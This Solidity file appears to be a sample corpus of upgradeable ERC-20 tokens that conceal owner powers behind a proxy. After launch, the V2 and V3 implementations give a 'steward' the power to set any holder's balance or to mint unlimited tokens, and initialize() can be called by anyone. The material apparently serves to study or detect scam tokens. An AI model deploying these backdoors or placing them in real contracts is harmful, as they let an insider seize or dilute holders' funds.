// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Tuning tokens behind a proxy (OpenZeppelin's TransparentUpgradeableProxy, deployed by the
// corpus): the power is in the implementation the proxy runs after an upgrade, held by a steward
// that initialize() kept in storage; and honest upgradeable tokens beside them.

/// An ERC-20 that takes its state from initialize(), for a proxy; the holder of the launch supply
/// is its steward.
abstract contract TnInitializableToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    bool private initialized;
    address internal steward;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string memory name_, string memory symbol_, uint256 supply, address holder) external {
        require(!initialized, "initialized");
        initialized = true;
        name = name_;
        symbol = symbol_;
        steward = holder;
        _move(address(0), holder, supply);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        if (from == address(0)) totalSupply += value;
        else balanceOf[from] -= value;
        if (to == address(0)) totalSupply -= value;
        else balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// The launch implementation: nothing but the token.
contract TnLedgerV1 is TnInitializableToken {}

/// Upgraded to after trading: `reconcile` sets any account's balance for the steward.
contract TnLedgerV2 is TnInitializableToken {
    function reconcile(address account, uint256 amount) external {
        require(msg.sender == steward, "steward");
        balanceOf[account] = amount;
    }
}

/// Upgraded to after trading: `accrue` mints any amount to the steward.
contract TnLedgerV3 is TnInitializableToken {
    function accrue(uint256 amount) external {
        require(msg.sender == steward, "steward");
        _move(address(0), steward, amount);
    }
}
